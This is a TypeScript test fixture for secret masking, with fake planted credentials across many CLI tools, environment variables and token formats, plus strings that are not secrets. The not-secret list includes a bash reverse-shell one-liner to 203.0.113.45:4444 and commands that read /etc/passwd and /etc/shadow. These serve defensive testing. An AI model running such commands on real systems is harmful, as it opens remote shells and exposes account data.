/**
 * A hostile corpus of planted secrets, one per way a secret reaches a command line, an environment or a
 * script, each with a unique value (`S3cr3t-<n>-…`, or the token format's own shape) so a leak names its
 * case. Shared by the masking tests and any test that wants realistic secrets in process evidence.
 */

/** One planted secret: where it sits (an argument vector, free text, or an environment variable) and its value. */
export interface PlantedSecret {
  readonly label: string;
  readonly argv?: readonly string[];
  readonly text?: string;
  readonly env?: { readonly name: string; readonly value: string };
  /** The value that must never appear after masking. */
  readonly secret: string;
  /** How many leading characters of `secret` are a public prefix (`ghp_`), free to stay visible at a cut. */
  readonly keep?: number;
}

/** Something secret-looking that is not a secret, and must come out of masking unchanged. */
export interface NonSecret {
  readonly label: string;
  readonly argv?: readonly string[];
  readonly text?: string;
  readonly env?: { readonly name: string; readonly value: string };
}

const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ';
/** `head` filled up to `length` characters from `from` (a token format's alphabet). */
const fill = (head: string, length: number, from = alphabet) => head + from.repeat(4).slice(0, Math.max(0, length - head.length));
const upper = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';

const t = (label: string, text: string, secret: string, keep = 0): PlantedSecret => ({ label, text, secret, keep });
const a = (label: string, argv: readonly string[], secret: string, keep = 0): PlantedSecret => ({ label, argv, secret, keep });
const e = (label: string, name: string, value: string, secret = value, keep = 0): PlantedSecret => ({ label, env: { name, value }, secret, keep });

const pem = (label: string, body: string) => `-----BEGIN ${label}-----\n${body}\n${fill('', 64)}\n-----END ${label}-----`;

const ghp = fill('ghp_S3cr3t42', 40);
const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJTM2NyM3QtNTEiOiJ4In0.${fill('S3cr3t51sig', 43)}`;
const ya29 = fill('ya29.a0S3cr3t-30-', 80);

/** Every planted secret; at least one for each class masking covers. */
export const plantedSecrets: readonly PlantedSecret[] = [
  // Structured text: JSON, escaped JSON, YAML, key=value, env assignments, headers.
  t('JSON "password": "…"', '{"user": "app", "password": "S3cr3t-01-json"}', 'S3cr3t-01-json'),
  t('JSON "api_key":"…" compact', '{"api_key":"S3cr3t-02-apikey","region":"eu"}', 'S3cr3t-02-apikey'),
  t('JSON nested, escaped quote inside', '{"db":{"password":"S3cr3t-03-a\\"b-c"}}', 'S3cr3t-03-a\\"b-c'),
  t('escaped JSON inside a log line', 'msg="{\\"client_secret\\":\\"S3cr3t-04-esc\\"}"', 'S3cr3t-04-esc'),
  t('YAML password: …', 'db:\n  host: pg\n  password: S3cr3t-05-yaml\n', 'S3cr3t-05-yaml'),
  t('YAML quoted env key', 'stringData:\n  DB_PASSWORD: "S3cr3t-06-yq"\n', 'S3cr3t-06-yq'),
  t('key=value', 'connect password=S3cr3t-07-kv retries=3', 'S3cr3t-07-kv'),
  t('KEY=value in a script', 'export PGPASSWORD=S3cr3t-08-pg\npsql -h db', 'S3cr3t-08-pg'),
  t('Cookie header', 'Cookie: session=S3cr3t-58-cookie; theme=dark', 'S3cr3t-58-cookie'),
  t('URL query access_token', 'GET /api?access_token=S3cr3t-74-query&page=2 HTTP/1.1', 'S3cr3t-74-query'),
  t('Java system property', 'java -Djavax.net.ssl.keyStorePassword=S3cr3t-66-jks -jar app.jar', 'S3cr3t-66-jks'),
  t('mount options', 'mount -t cifs //fs/share /mnt -o username=svc,password=S3cr3t-67-cifs,uid=0', 'S3cr3t-67-cifs'),
  // Environment variables, by name and by value.
  e('env MYSQL_PWD', 'MYSQL_PWD', 'S3cr3t-09-env'),
  e('env REDISCLI_AUTH', 'REDISCLI_AUTH', 'S3cr3t-10-rauth'),
  e('env SSHPASS', 'SSHPASS', 'S3cr3t-75-sshpass'),
  e('env DATABASE_URL with a user', 'DATABASE_URL', 'postgresql://app:S3cr3t-11-url@db:5432/shop', 'S3cr3t-11-url'),
  e('env AWS_SECRET_ACCESS_KEY', 'AWS_SECRET_ACCESS_KEY', 'S3cr3t-76-awsenv'),
  e('env with a token value under a plain name', 'NOTES', `use ${fill('ghs_S3cr3t77', 40)} for ci`, fill('ghs_S3cr3t77', 40), 4),
  // mysql, psql, redis-cli.
  a('mysql -pVALUE', ['mysql', '-uroot', '-pS3cr3t-12-my', 'shop'], 'S3cr3t-12-my'),
  a('mysqldump --password=', ['/usr/bin/mysqldump', '--password=S3cr3t-13-dump', 'shop'], 'S3cr3t-13-dump'),
  a('mysql --password VALUE', ['mysql', '--password', 'S3cr3t-14-sep', '-h', 'db'], 'S3cr3t-14-sep'),
  a('psql URL credentials', ['psql', 'postgresql://admin:S3cr3t-15-psql@db/app'], 'S3cr3t-15-psql'),
  a('psql conninfo password=', ['psql', 'host=db user=app password=S3cr3t-16-conn'], 'S3cr3t-16-conn'),
  a('redis-cli -a VALUE', ['redis-cli', '-h', 'cache', '-a', 'S3cr3t-17-redis', 'PING'], 'S3cr3t-17-redis'),
  a('redis-cli --pass VALUE', ['redis-cli', '--pass', 'S3cr3t-18-rpass'], 'S3cr3t-18-rpass'),
  a('redis URL without a user', ['redis-cli', '-u', 'redis://:S3cr3t-19-nouser@cache:6379'], 'S3cr3t-19-nouser'),
  a('redis-cli AUTH', ['redis-cli', '-h', 'cache', 'AUTH', 'S3cr3t-20-auth'], 'S3cr3t-20-auth'),
  // curl.
  a('curl -u user:pass', ['curl', '-u', 'admin:S3cr3t-21-curl', 'https://api.example.invalid'], 'S3cr3t-21-curl'),
  a('curl --user user:pass', ['curl', '--user', 'admin:S3cr3t-22-user', 'https://api.example.invalid'], 'S3cr3t-22-user'),
  a('curl -H Authorization: Bearer', ['curl', '-H', 'Authorization: Bearer S3cr3t-23-bearer', 'https://api.example.invalid'], 'S3cr3t-23-bearer'),
  a('curl --oauth2-bearer', ['curl', '--oauth2-bearer', 'S3cr3t-24-oauth', 'https://api.example.invalid'], 'S3cr3t-24-oauth'),
  a('curl -H X-Api-Key', ['curl', '-H', 'X-Api-Key: S3cr3t-73-xapi', 'https://api.example.invalid'], 'S3cr3t-73-xapi'),
  // sshpass, docker, kubectl, aws, gcloud and others.
  a('sshpass -p VALUE', ['sshpass', '-p', 'S3cr3t-25-sshpass', 'ssh', 'root@10.0.0.5'], 'S3cr3t-25-sshpass'),
  a('sshpass -pVALUE', ['sshpass', '-pS3cr3t-26-att', 'ssh', 'root@10.0.0.5'], 'S3cr3t-26-att'),
  a('aws configure set', ['aws', 'configure', 'set', 'aws_secret_access_key', 'S3cr3t-27-aws'], 'S3cr3t-27-aws'),
  a('aws --secret-access-key', ['aws', 'configure', 'import', '--secret-access-key', 'S3cr3t-28-sak'], 'S3cr3t-28-sak'),
  a('gcloud --password', ['gcloud', 'sql', 'users', 'set-password', 'root', '--instance=db', '--password', 'S3cr3t-29-gc'], 'S3cr3t-29-gc'),
  t('bare ya29. OAuth token', `got ${ya29} from metadata`, ya29, 5),
  a('kubectl --token VALUE', ['kubectl', '--token', 'S3cr3t-31-kube', 'get', 'pods'], 'S3cr3t-31-kube'),
  a('kubectl --password VALUE', ['kubectl', '--username', 'admin', '--password', 'S3cr3t-32-kpw', 'get', 'pods'], 'S3cr3t-32-kpw'),
  a('docker login -p VALUE', ['docker', 'login', '-u', 'ci', '-p', 'S3cr3t-33-dock', 'registry.example.invalid'], 'S3cr3t-33-dock'),
  a('docker login --password VALUE', ['docker', 'login', '--username', 'ci', '--password', 'S3cr3t-34-dpw', 'registry.example.invalid'], 'S3cr3t-34-dpw'),
  a('podman login -pVALUE', ['podman', 'login', '-u', 'ci', '-pS3cr3t-35-pod', 'quay.io'], 'S3cr3t-35-pod'),
  a('password VALUE pair', ['nmcli', 'device', 'wifi', 'connect', 'office', 'password', 'S3cr3t-36-wifi'], 'S3cr3t-36-wifi'),
  a('sqlcmd -P VALUE', ['sqlcmd', '-S', 'db', '-U', 'sa', '-P', 'S3cr3t-59-mssql'], 'S3cr3t-59-mssql'),
  a('ldapsearch -w VALUE', ['ldapsearch', '-D', 'cn=admin', '-w', 'S3cr3t-60-ldap', '-b', 'dc=x'], 'S3cr3t-60-ldap'),
  a('openssl -passin pass:', ['openssl', 'rsa', '-in', 'k.pem', '-passin', 'pass:S3cr3t-61-ossl'], 'S3cr3t-61-ossl'),
  a('keytool -storepass', ['keytool', '-list', '-keystore', 'k.jks', '-storepass', 'S3cr3t-62-jks'], 'S3cr3t-62-jks'),
  a('smbclient -U user%pass', ['smbclient', '//fs/share', '-U', 'svc%S3cr3t-63-smb'], 'S3cr3t-63-smb'),
  a('htpasswd -b', ['htpasswd', '-bc', '/etc/nginx/.htpasswd', 'admin', 'S3cr3t-64-htp'], 'S3cr3t-64-htp'),
  a('vault login TOKEN', ['vault', 'login', fill('hvs.S3cr3t65', 40)], fill('hvs.S3cr3t65', 40), 4),
  a('npm config set _authToken', ['npm', 'config', 'set', '//registry.npmjs.org/:_authToken', 'S3cr3t-72-npmrc'], 'S3cr3t-72-npmrc'),
  a('sh -c with mysql inside', ['sh', '-c', 'mysql -uroot -pS3cr3t-70-shc -e "select 1"'], 'S3cr3t-70-shc'),
  a('sudo mysql -pVALUE', ['sudo', '-u', 'mysql', 'mysql', '-pS3cr3t-71-sudo'], 'S3cr3t-71-sudo'),
  t('script line with sshpass', '#!/bin/sh\nset -e\nsshpass -p S3cr3t-68-line ssh root@10.0.0.9 "id"\n', 'S3cr3t-68-line'),
  t('script line with mysql', 'for db in a b; do mysql -uroot -pS3cr3t-69-loop "$db"; done', 'S3cr3t-69-loop'),
  // URL credentials.
  t('URL with a user', 'git clone https://deploy:S3cr3t-37-git@git.example.invalid/app.git', 'S3cr3t-37-git'),
  t('URL without a user', 'REDIS_URL=redis://:S3cr3t-38-ru@cache:6379/0', 'S3cr3t-38-ru'),
  // Token formats, bare in text.
  t('AWS AKIA', 'key AKIAS3CR3T39ABCDEFGH in use', 'AKIAS3CR3T39ABCDEFGH', 4),
  t('AWS ASIA', 'key ASIAS3CR3T40ABCDEFGH in use', 'ASIAS3CR3T40ABCDEFGH', 4),
  t('Google AIza', `maps ${fill('AIzaS3cr3t-41-', 39)} end`, fill('AIzaS3cr3t-41-', 39), 4),
  t('GitHub ghp_', `push with ${ghp}`, ghp, 4),
  t('GitHub gho_', `oauth ${fill('gho_S3cr3t43', 40)}`, fill('gho_S3cr3t43', 40), 4),
  t('GitHub ghs_ in a URL user', `https://x-access-token:${fill('ghs_S3cr3t44', 40)}@github.com/o/r`, fill('ghs_S3cr3t44', 40), 4),
  t('GitHub github_pat_', `pat ${fill('github_pat_S3cr3t45_', 93)}`, fill('github_pat_S3cr3t45_', 93), 11),
  t('GitLab glpat-', `PRIVATE-TOKEN ${fill('glpat-S3cr3t-46-', 26)}`, fill('glpat-S3cr3t-46-', 26), 6),
  t('Slack xoxb-', `bot ${fill('xoxb-S3cr3t-47-', 50)}`, fill('xoxb-S3cr3t-47-', 50), 5),
  t('Stripe sk_live_', `stripe ${fill('sk_live_S3cr3t48', 40)}`, fill('sk_live_S3cr3t48', 40), 8),
  t('Stripe rk_live_', `stripe ${fill('rk_live_S3cr3t49', 40)}`, fill('rk_live_S3cr3t49', 40), 8),
  t('Stripe sk_test_', `stripe ${fill('sk_test_S3cr3t50', 40)}`, fill('sk_test_S3cr3t50', 40), 8),
  t('JWT', `session ${jwt} ok`, jwt, 3),
  t('npm npm_', `//registry.npmjs.org/ ${fill('npm_S3cr3t52', 40)}`, fill('npm_S3cr3t52', 40), 4),
  t('PyPI pypi-', `upload ${fill('pypi-AgEIcHlwaS5vcmcS3cr3t-53-', 120)}`, fill('pypi-AgEIcHlwaS5vcmcS3cr3t-53-', 120), 5),
  // Private keys.
  t('RSA private key', pem('RSA PRIVATE KEY', 'MIIEowS3cr3t54RSAbody'), 'MIIEowS3cr3t54RSAbody'),
  t('PGP private key block', pem('PGP PRIVATE KEY BLOCK', 'lQdGBS3cr3t55PGPbody'), 'lQdGBS3cr3t55PGPbody'),
  t('OpenSSH private key', pem('OPENSSH PRIVATE KEY', 'b3BlbnNzaS3cr3t56SSH'), 'b3BlbnNzaS3cr3t56SSH'),
  t('private key with no END', `key:\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQS3cr3t57EC${fill('', 64, upper)}`, `MHcCAQS3cr3t57EC${fill('', 64, upper)}`),
];

/** Secret-looking things that are not secrets. */
export const nonSecrets: readonly NonSecret[] = [
  { label: 'python http.server -p 8080', argv: ['python', '-m', 'http.server', '-p', '8080'] },
  { label: '--port 8080', argv: ['app', '--port', '8080', '--host', '0.0.0.0'] },
  { label: 'passwd as the binary', argv: ['/usr/bin/passwd', 'bob'] },
  { label: 'sudo passwd', argv: ['sudo', 'passwd', 'bob'] },
  { label: '/etc/passwd path', argv: ['cat', '/etc/passwd'] },
  { label: '/etc/passwd in text', text: 'grep root /etc/passwd /etc/shadow' },
  { label: 'docker run -p', argv: ['docker', 'run', '-p', '8080:80', 'nginx'] },
  { label: 'ssh -p port', argv: ['ssh', '-p', '2222', 'root@10.0.0.5'] },
  { label: 'mysql -p alone prompts', argv: ['mysql', '-uroot', '-p', 'shop'] },
  { label: 'docker login --password-stdin', argv: ['docker', 'login', '--password-stdin', '-u', 'ci', 'registry.example.invalid'] },
  { label: 'gcloud --access-token-file is a path', argv: ['gcloud', 'storage', 'ls', '--access-token-file', '/run/token'] },
  { label: 'gcloud --key-file=', argv: ['gcloud', 'auth', 'activate-service-account', '--key-file=/keys/sa.json'] },
  { label: 'redis-cli --askpass', argv: ['redis-cli', '--askpass', '-h', 'cache'] },
  { label: 'kubectl get secret', argv: ['kubectl', 'get', 'secret', 'db-creds', '-o', 'name'] },
  { label: 'PWD is the working directory', env: { name: 'PWD', value: '/srv/app' } },
  { label: 'a key file path', env: { name: 'GOOGLE_APPLICATION_CREDENTIALS', value: '/var/secrets/sa.json' } },
  { label: 'SSH_AUTH_SOCK', env: { name: 'SSH_AUTH_SOCK', value: '/run/ssh-agent/agent.1' } },
  { label: 'ordinary words', text: 'author=alice compass=north bypass=false' },
  { label: 'reverse shell', text: 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1' },
];
